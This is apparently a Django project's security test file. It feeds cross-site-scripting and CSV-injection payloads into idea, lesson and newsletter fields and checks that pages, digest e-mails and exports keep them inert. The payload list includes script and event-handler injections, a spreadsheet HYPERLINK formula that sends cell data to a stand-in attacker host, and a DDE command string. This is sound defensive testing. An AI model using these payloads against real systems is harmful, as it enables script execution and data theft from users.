"""Hostile content: XSS payloads in every Markdown and text field people
write, rendered in pages, e-mails and CSV exports.

In Chromium a dialog listener proves nothing executes (every payload calls
``alert``), the page fixture fails on any script blocked by the CSP (so a
payload that reached the page as markup would fail the test even though the
CSP stopped it), and each page keeps its heading (nothing broke the layout).
"""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from html.parser import HTMLParser

import pytest
from django.test import Client
from django.utils import timezone
from playwright.sync_api import Dialog, Page

from ideas.markdown import render as ideas_markdown
from ideas.workflow import Status
from newsletter import mail
from newsletter.models import Digest, Frequency
from onboarding.markdown import render_markdown as onboarding_markdown
from tests.accounts.factories import UserFactory
from tests.browser.conftest import sign_in
from tests.ideas.factories import CampaignFactory, CommentFactory, IdeaFactory
from tests.newsletter.factories import SubscriberFactory
from tests.onboarding.factories import AssignmentFactory, LessonFactory, ModuleFactory

PAYLOADS = [
    "<script>alert('xss-script')</script>",
    "<img src=x onerror=\"alert('xss-img')\">",
    "<svg/onload=alert('xss-svg')>",
    "\"><script>alert('xss-attr')</script>",
    "javascript:alert('xss-js')",
    "[click me](javascript:alert('xss-md-link'))",
    "<a href=\"javascript:alert('xss-a')\">x</a>",
    "<iframe src=\"javascript:alert('xss-iframe')\"></iframe>",
    "<details open ontoggle=alert('xss-toggle')>",
    "{{ 7*7 }}{% csrf_token %}",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
]
HOSTILE = "\n\n".join(PAYLOADS)


@pytest.fixture
def hostile_world(db):
    author = UserFactory(display_name="<script>alert('xss-name')</script>", roles=["reviewer", "hr", "editor"])
    campaign = CampaignFactory(title="<img src=x onerror=alert('xss-campaign')>", brief=HOSTILE)
    idea = IdeaFactory(
        author=author,
        campaign=campaign,
        status=Status.SUBMITTED,
        title="<script>alert('xss-title')</script> =1+1",
        problem=HOSTILE,
        proposal=HOSTILE,
        customers_affected=HOSTILE,
        customer_delight=HOSTILE,
        metric="other",
        metric_other="<img src=x onerror=alert('xss-metric')>",
    )
    type(idea).objects.filter(pk=idea.pk).update(proposal_html=ideas_markdown(HOSTILE))
    comment = CommentFactory(idea=idea, author=author, body=HOSTILE)
    type(comment).objects.filter(pk=comment.pk).update(body_html=ideas_markdown(HOSTILE))
    module = ModuleFactory(title="<svg/onload=alert('xss-module')>", summary=HOSTILE)
    lesson = LessonFactory(
        module=module,
        title="<script>alert('xss-lesson')</script>",
        body=HOSTILE,
        body_html=onboarding_markdown(HOSTILE),
    )
    assignment = AssignmentFactory(module=module, user=author, due_on=timezone.localdate() - timedelta(days=3))
    start = timezone.localdate() - timedelta(days=14)
    digest = Digest.objects.create(
        frequency=Frequency.WEEKLY,
        period_start=start,
        period_end=start + timedelta(days=7),
        content={
            "top_new": [{"id": idea.pk, "title": idea.title, "votes": 3, "url": idea.get_absolute_url()}],
        },
        editor_note=HOSTILE,
        fanned_out_at=timezone.now(),
        completed_at=timezone.now(),
    )
    return {"author": author, "idea": idea, "lesson": lesson, "assignment": assignment, "digest": digest}


def test_payloads_execute_nothing_and_break_no_page(page: Page, hostile_world):
    dialogs: list[str] = []

    def on_dialog(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", on_dialog)
    world = hostile_world
    sign_in(page, world["author"].email)
    idea, assignment, lesson = world["idea"], world["assignment"], world["lesson"]
    pages = [
        f"/ideas/{idea.pk}/",
        "/ideas/",
        f"/ideas/?q={idea.title[:20]}",
        "/ideas/mine/",
        "/ideas/review/",
        "/ideas/campaigns/",
        f"/ideas/{idea.pk}/edit/",
        "/onboarding/",
        f"/onboarding/assignments/{assignment.pk}/",
        f"/onboarding/assignments/{assignment.pk}/lessons/{lesson.pk}/",
        "/onboarding/hr/modules/",
        "/onboarding/hr/reports/",
        f"/newsletter/archive/{world['digest'].pk}/",
        "/newsletter/archive/",
        "/newsletter/editor/",
        "/notifications/",
    ]
    for path in pages:
        response = page.goto(path)
        assert response is not None and response.status == 200, path
        assert page.locator("h1").count() >= 1, f"{path}: the page lost its heading"
        # Follow every link a payload might have become.
        for link in page.locator("main a[href^='javascript:']").all():
            raise AssertionError(f"{path}: a javascript: link survived: {link.get_attribute('href')}")
    assert dialogs == []


def test_payloads_are_inert_in_digest_mail(hostile_world):
    subscriber = SubscriberFactory()
    message = mail.digest_message(hostile_world["digest"], subscriber=subscriber, personal=[])
    html = next(content for content, kind in message.alternatives if kind == "text/html")
    finder = _ActiveMarkup()
    finder.feed(str(html))
    assert finder.found == []
    assert "xss-img" in str(html)  # the payload is there, as text


class _ActiveMarkup(HTMLParser):
    """Collects every tag or attribute in a document that could run script."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "iframe", "svg", "object", "embed"):
            self.found.append(tag)
        for name, value in attrs:
            if name.startswith("on") or (value or "").strip().lower().startswith("javascript:"):
                self.found.append(f"{tag} {name}={value}")


def _csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


def test_csv_exports_never_start_a_cell_with_a_formula(hostile_world):
    client = Client()
    client.force_login(hostile_world["author"])
    exports = [
        client.get("/api/v1/ideas/export/", HTTP_ACCEPT="text/csv"),
        client.get("/onboarding/hr/reports/export.csv", {"report": "overdue"}),
        client.get("/onboarding/hr/reports/export.csv", {"report": "modules"}),
    ]
    for response in exports:
        assert response.status_code == 200
        rows = _csv(response)
        assert len(rows) > 1
        for row in rows:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
